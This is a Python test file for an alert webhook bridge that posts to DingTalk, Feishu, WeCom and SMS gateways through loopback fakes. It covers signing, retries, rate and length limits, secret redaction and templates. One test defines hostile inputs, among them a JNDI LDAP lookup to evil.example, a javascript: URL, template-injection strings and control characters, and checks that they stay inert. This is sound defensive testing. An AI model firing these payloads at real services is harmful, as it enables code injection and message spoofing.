"""The webhook bridge against loopback fakes of each service."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import hmac
import json
import logging
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import pytest

from healthd.hooks.bridge import Pauses
from healthd.hooks.notice import link, plain
from healthd.hooks.services import length_of
from tests.hook_kit import (
    HANGS,
    NOW,
    SECRET,
    TOKEN,
    alert,
    bridging,
    hook,
    incident,
    posted,
    service,
)
from tests.running import free_port

OF_INCIDENT = {"alertname": "HealthdMassIncident", "incident": "I1", "region": "320602"}
SMS = {
    "numbers": ["13800000001", "13800000002"],
    "fields": {"to": "{numbers}", "text": "{text}", "key": "{token}"},
}


def text_in(kind: str, content: Any) -> str:
    """The text of a message of this kind."""
    return str(content["content"]["text"] if kind == "feishu" else content["text"]["content"])


async def test_dingtalk_is_signed_and_says_all() -> None:
    """Signed as DingTalk asks; the text has place, device, cause, since, limit, crew and link."""
    async with service() as fake, bridging({"d": hook("dingtalk", fake.url)}, incident()) as running:
        reply = await running.bridge.take("d", posted(alert(labels=OF_INCIDENT)))
        assert (reply.status, reply.sentence) == (200, "Delivered.")
        assert running.value("messages_sent_total", hook="d") == 1
    request = fake.asked[0]
    stamp = str(round(NOW * 1000))
    sign = base64.b64encode(hmac.digest(SECRET.encode(), f"{stamp}\n{SECRET}".encode(), hashlib.sha256)).decode()
    assert request.path == "/robot/send"
    assert dict(request.query) == {"access_token": TOKEN, "timestamp": stamp, "sign": sign}
    assert fake.json()["msgtype"] == "text"
    assert fake.json()["at"] == {"isAtAll": False}
    assert text_in("dingtalk", fake.json()) == (
        "【告警】在线率突然下降 0\n"
        "地点：南通市 崇川区\n"
        "故障对象：学田交换机 (sw-1)，影响摄像机 40 台\n"
        "可能成因：供电中断\n"
        "开始时间：2026-11-21 10:00\n"
        "修复时限：2026-11-23 10:00\n"
        "运维单位：华网通信 0513-1\n"
        "详情：https://healthd.lan:9808/incidents/I1?lang=zh\n"
        "处置：http://healthd.lan/runbooks/HealthdRegionRateDropped?lang=zh"
    )


async def test_feishu_is_signed() -> None:
    """Signed as Feishu asks: time and secret are the key, and nothing is what is signed."""
    async with service() as fake, bridging({"f": hook("feishu", fake.url)}) as running:
        assert (await running.bridge.take("f", posted(alert()))).status == 200
    stamp = str(int(NOW))
    sign = base64.b64encode(hmac.digest(f"{stamp}\n{SECRET}".encode(), b"", hashlib.sha256)).decode()
    assert fake.asked[0].path == f"/open-apis/bot/v2/hook/{TOKEN}"
    assert (fake.json()["timestamp"], fake.json()["sign"]) == (stamp, sign)
    assert "在线率突然下降 0\n当前 93 %\n地点：南通市 崇川区" in text_in("feishu", fake.json())


async def test_wecom_in_english() -> None:
    """WeCom's group bot, in English, for what is over and for a single camera."""
    camera = incident(subject="c1", camera_ids=frozenset({"c1"}), most_cameras=1, cause="device")
    async with service() as fake, bridging({"w": hook("wecom", fake.url, language="en")}, camera) as running:
        assert (await running.bridge.take("w", posted(alert(status="resolved", labels=OF_INCIDENT)))).status == 200
    assert (fake.asked[0].path, dict(fake.asked[0].query)) == ("/cgi-bin/webhook/send", {"key": TOKEN})
    assert text_in("wecom", fake.json()) == (
        "[RESOLVED] rate dropped 0\n"
        "Place: 南通市 崇川区 人民路 5 号\n"
        "To be repaired: 人民路东枪机 (c1)\n"
        "Likely cause: device broken or hung\n"
        "Since: 2026-11-21 10:00\n"
        "Crew: 华网通信 0513-1\n"
        "Details: https://healthd.lan:9808/incidents/I1?lang=en"
    )


@pytest.mark.parametrize(
    ("more", "taken"),
    [
        ({}, [{"to": "13800000001,13800000002"}]),
        ({"encoding": "form"}, [{"to": "13800000001,13800000002"}]),
        ({"method": "GET"}, [{"to": "13800000001,13800000002"}]),
        (
            {"fields": {"to": "{number}", "text": "{text}", "key": "{token}"}},
            [{"to": "13800000001"}, {"to": "13800000002"}],
        ),
    ],
)
async def test_sms_gateway(more: dict[str, Any], taken: list[dict[str, str]]) -> None:
    """By JSON, form or query; all numbers at once or one a request."""
    options = {**SMS, "success_field": "result", **more}
    async with (
        service((200, '{"result":0}')) as fake,
        bridging({"s": hook("sms", fake.url, sms=options)}) as running,
    ):
        assert (await running.bridge.take("s", posted(alert()))).status == 200
    sent = []
    for request, body in zip(fake.asked, fake.bodies, strict=True):
        if request.method == "GET":
            sent.append(dict(request.query))
        elif more.get("encoding") == "form":
            sent.append({name: values[0] for name, values in parse_qs(body.decode()).items()})
        else:
            sent.append(json.loads(body))
    assert [one["to"] for one in sent] == [one["to"] for one in taken]
    assert all(one["key"] == TOKEN and "在线率突然下降" in one["text"] for one in sent)


async def test_sms_numbers_that_have_it_are_not_asked_twice() -> None:
    """The second number fails once: the first does not get the message again."""
    options = {**SMS, "fields": {"to": "{number}", "text": "{text}"}}
    answers = ((200, ""), (500, ""), (200, ""))
    async with service(*answers) as fake, bridging({"s": hook("sms", fake.url, sms=options)}) as running:
        assert (await running.bridge.take("s", posted(alert()))).status == 200
    assert [fake.json(number)["to"] for number in range(3)] == ["13800000001", "13800000002", "13800000002"]


@pytest.mark.parametrize(
    ("kind", "status", "body"),
    [
        ("dingtalk", 200, '{"errcode":310000,"errmsg":"keywords not in content"}'),
        ("dingtalk", 200, '{"errcode":300005,"errmsg":"token is not exist"}'),
        ("feishu", 200, '{"code":19021,"msg":"sign match fail or timestamp is not within one hour"}'),
        ("feishu", 400, '{"code":19001,"msg":"param invalid"}'),
        ("wecom", 200, '{"errcode":93000,"errmsg":"invalid webhook url"}'),
        ("wecom", 404, "no such page"),
        ("dingtalk", 302, ""),
    ],
)
async def test_refused_for_good(kind: str, status: int, body: str) -> None:
    """What trying again does not change is given up at once, counted, and told to Alertmanager as final."""
    async with service((status, body)) as fake, bridging({"h": hook(kind, fake.url)}) as running:
        reply = await running.bridge.take("h", posted(alert()))
        assert reply.status == 422
        assert running.value("messages_failed_total", hook="h", reason="refused") == 1
        assert running.value("retries_total", hook="h") == 0
    assert len(fake.asked) == 1


@pytest.mark.parametrize(
    ("kind", "answer"),
    [
        ("dingtalk", (200, '{"errcode":130101,"errmsg":"send too fast"}')),
        ("dingtalk", (200, '{"errcode":-1,"errmsg":"system busy"}')),
        ("dingtalk", (200, "<html>Please log in</html>")),
        ("feishu", (200, '{"code":11232,"msg":"frequency limited"}')),
        ("feishu", (429, "")),
        ("wecom", (200, '{"errcode":45009,"errmsg":"api freq out of limit"}')),
        ("wecom", (502, "bad gateway")),
        ("wecom", (HANGS, "")),
        ("wecom", (200, '["errcode"]')),
        ("wecom", (200, "[" * 100_000)),
    ],
)
async def test_tried_again_until_it_is_taken(kind: str, answer: tuple[int, str]) -> None:
    """Limits, troubles, hanging and nonsense pass: the message arrives once they have."""
    fine = (200, '{"errcode":0,"code":0}')
    async with service(answer, answer, fine) as fake, bridging({"h": hook(kind, fake.url)}) as running:
        assert (await running.bridge.take("h", posted(alert()))).status == 200
        assert running.value("retries_total", hook="h") == 2
        assert running.value("messages_sent_total", hook="h") == 1
        assert running.value("pending", hook="h") == 0
    assert len(fake.asked) == 3


@pytest.mark.parametrize(
    ("answer", "reason"), [((500, ""), "server"), ((HANGS, ""), "timeout"), (None, "unreachable")]
)
async def test_given_up_in_the_end(answer: tuple[int, str] | None, reason: str) -> None:
    """After give_up_after the message is counted as failed, and the next one is tried."""
    async with service(answer or (200, "")) as fake:
        url = fake.url if answer else f"http://127.0.0.1:{free_port()}"
        options = hook("wecom", url, timeout="50ms", give_up_after="200ms")
        async with bridging({"h": options}) as running:
            reply = await running.bridge.take("h", posted(alert()))
            assert reply.status == 503
            assert running.value("messages_failed_total", hook="h", reason=reason) == 1


async def test_alertmanager_is_not_kept_waiting() -> None:
    """A message that is not through after a while is accepted, and sent all the same."""
    pauses = Pauses(answer=0.05, first=0.2, longest=0.2, limited=0.2)
    fine = (200, '{"errcode":0}')
    async with (
        service((500, ""), fine) as fake,
        bridging({"h": hook("wecom", fake.url)}, pauses=pauses) as running,
    ):
        assert (await running.bridge.take("h", posted(alert()))).status == 202
        await running.bridge.stop(2)
        assert running.value("messages_sent_total", hook="h") == 1


async def test_queue_is_bounded() -> None:
    """What does not fit is refused with 503, which Alertmanager brings again, and counted."""
    pauses = Pauses(answer=0.02)
    async with service((HANGS, "")) as fake:
        async with bridging({"h": hook("wecom", fake.url, queue=2)}, pauses=pauses) as running:
            replies = [(await running.bridge.take("h", posted(alert(n)))).status for n in range(4)]
            assert replies == [202, 202, 503, 503]
            assert running.value("messages_failed_total", hook="h", reason="full") == 2
            assert running.value("pending", hook="h") == 2
        assert running.value("messages_failed_total", hook="h", reason="stopped") == 2


async def test_no_more_than_so_many_a_minute() -> None:
    """The third message of a minute waits where two are allowed."""
    pauses = Pauses(answer=0.3)
    async with service() as fake, bridging({"h": hook("wecom", fake.url, per_minute=2)}, pauses=pauses) as running:
        replies = [(await running.bridge.take("h", posted(alert(n)))).status for n in range(3)]
        assert replies == [200, 200, 202]
        assert len(fake.asked) == 2


@pytest.mark.parametrize("kind", ["dingtalk", "feishu", "wecom"])
async def test_messages_keep_to_the_services_length(kind: str) -> None:
    """A hundred alerts and more make one message that fits and says how many are left out; one huge one is cut."""
    size, limit = length_of(hook(kind, "http://127.0.0.1"))
    huge = alert(annotations={"summary_zh": "长" * 50_000, "description_zh": "长" * 50_000})
    async with service() as fake, bridging({"h": hook(kind, fake.url)}) as running:
        many = posted(*(alert(n) for n in range(100)), truncatedAlerts=1900)
        assert (await running.bridge.take("h", many)).status == 200
        assert (await running.bridge.take("h", posted(huge))).status == 200
    texts = [text_in(kind, fake.json(number)) for number in (0, 1)]
    assert all(size(text) <= limit for text in texts)
    shown = texts[0].count("【告警】")
    assert f"另有 {2000 - shown} 项未列出" in texts[0]
    assert shown > 3
    assert len(texts[0].encode()) > limit * 0.7
    assert texts[1].startswith("【告警】长长")


async def test_characters_can_be_fewer() -> None:
    """An operator's own limit holds beside the service's."""
    options = hook("sms", "http://127.0.0.1", sms=SMS, characters=70)
    size, limit = length_of(options)
    async with (
        service((200, "")) as fake,
        bridging({"h": options.model_copy(update={"base_url": fake.url})}) as running,
    ):
        assert (await running.bridge.take("h", posted(alert(), alert(1)))).status == 200
    assert size(fake.json()["text"]) <= limit == 70
    both = length_of(hook("wecom", "http://127.0.0.1", characters=100))
    assert both[0]("长" * 101) > both[1] >= both[0]("长" * 100)


HOSTILE = (
    '<at user_id="all">所有人</at> @all @13800000000 <@zhang> <font color="warning">x</font> **b** [a](http://evil.example/)'
    " {{ 7*7 }} {% raw %} \u202eevil\u202c \u0000\r\n\x1b[31m \ud800 ${jndi:ldap://evil.example/a}"
)


@pytest.mark.parametrize("kind", ["dingtalk", "feishu", "wecom"])
async def test_hostile_content_is_inert(kind: str) -> None:
    """No mention, mark-up, link, control character or template of a stranger's takes effect."""
    evil = alert(
        labels={"region": HOSTILE, "maintainer": HOSTILE, "alertname": HOSTILE},
        annotations={
            "summary": HOSTILE,
            "summary_zh": HOSTILE,
            "description_zh": HOSTILE,
            "runbook_url": "javascript:alert(1)",
            "dashboard_url": "http://evil.example/ x",
            "dashboard_url_zh": "http://user:pass@evil.example/<x>",
        },
    )
    async with service() as fake, bridging({"h": hook(kind, fake.url)}) as running:
        assert (await running.bridge.take("h", posted(evil))).status == 200
    text = text_in(kind, fake.json())
    assert not set("<>@\u202e\u202c\0\r\x1b") & set(text)
    assert "://" not in text
    assert "{{ 7*7 }}" in text  # as it was, not 49
    assert "pass" not in text
    assert len(text.splitlines()) == 5  # summary, description, place, since, crew: no line of its own


def test_plain_and_link() -> None:
    """One line, cut with a mark; only plain http addresses are links."""
    assert plain("a\n\tb  c\u200b") == "a b c"
    assert plain("x" * 300) == "x" * 199 + "…"
    assert link("http://g.lan/d/x?var-region=1&a=2%20") == "http://g.lan/d/x?var-region=1&a=2%20"
    for bad in ("ftp://x/", "http://a@b/", "http://x/ y", "x", "http://x/" + "y" * 600, "http://x/\u202e"):
        assert link(bad) == ""


async def test_secrets_stay_secret(caplog: pytest.LogCaptureFixture) -> None:
    """Token, secret and address are in no log, reply or metric, whatever goes wrong."""
    caplog.set_level(logging.DEBUG)
    echo = json.dumps({"errcode": 310000, "errmsg": f"{TOKEN} {SECRET}"})
    said: list[str] = []
    async with service((200, echo)) as refuses, service((500, TOKEN)) as breaks:
        dead = f"http://127.0.0.1:{free_port()}"
        hooks = {
            "refuses": hook("dingtalk", refuses.url),
            "breaks": hook("feishu", breaks.url, give_up_after="50ms"),
            "dead": hook("wecom", dead, give_up_after="50ms"),
            "sms": hook("sms", dead, sms=SMS, give_up_after="50ms"),
        }
        async with bridging(hooks) as running:
            said += [(await running.bridge.take(name, posted(alert()))).sentence for name in hooks]
            said += [str(sample) for metric in running.registry.collect() for sample in metric.samples]
    told = caplog.text + " ".join(said) + repr(hooks)
    assert "message given up hook=refuses kind=dingtalk reason=refused code=310000" in told
    assert TOKEN not in told
    assert SECRET not in told


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"[]",
        b"{}",
        b'{"alerts": []}',
        b'{"alerts": [1]}',
        b'{"alerts": [{"labels": []}]}',
        b"\xff\xfe",
        b"[" * 99_999,
        json.dumps({"alerts": [{"labels": {}}] * 1001}).encode(),
    ],
)
async def test_what_is_no_message_of_alertmanager(body: bytes) -> None:
    """400 with a sentence; nothing is sent."""
    async with service() as fake, bridging({"h": hook("wecom", fake.url)}) as running:
        reply = await running.bridge.take("h", body)
        assert reply.status == 400
        assert (await running.bridge.take("nobody", posted(alert()))).status == 404
    assert fake.asked == []


async def test_reload_takes_new_settings_for_what_waits() -> None:
    """A message that waits goes out by the corrected settings; a removed hook leaves the metrics."""
    pauses = Pauses(answer=0.02, first=0.05, longest=0.05)
    async with (
        service((500, "")) as old,
        service() as new,
        bridging({"h": hook("wecom", old.url)}, pauses=pauses) as running,
    ):
        assert (await running.bridge.take("h", posted(alert()))).status == 202
        running.bridge.replace({"h": hook("wecom", new.url)})
        for _ in range(100):
            await asyncio.sleep(0.02)
            if new.asked:
                break
        assert len(new.asked) == 1
        running.bridge.replace({})
        assert running.value("messages_sent_total", hook="h") is None
        assert (await running.bridge.take("h", posted(alert()))).status == 404


@pytest.mark.parametrize(
    "template", ["甲 {{ alerts[0].summary }} {{ site }}", "{{ alerts[", "{{ nothing.here }}", "{{ ().__class__ }}"]
)
async def test_own_templates(tmp_path: Path, template: str, caplog: pytest.LogCaptureFixture) -> None:
    """An operator's template is taken; a broken one, or one that reaches out, is told of and not used."""
    file = tmp_path / "own.txt"
    file.write_text(template, "utf-8")
    async with service() as fake, bridging({"h": hook("wecom", fake.url, template_file=str(file))}) as running:
        assert (await running.bridge.take("h", posted(alert()))).status == 200
    text = text_in("wecom", fake.json())
    if template.startswith("甲"):
        assert text == "甲 在线率突然下降 0 nantong"
    else:
        assert text.startswith("【告警】在线率突然下降 0")
        assert "template of a hook" in caplog.text
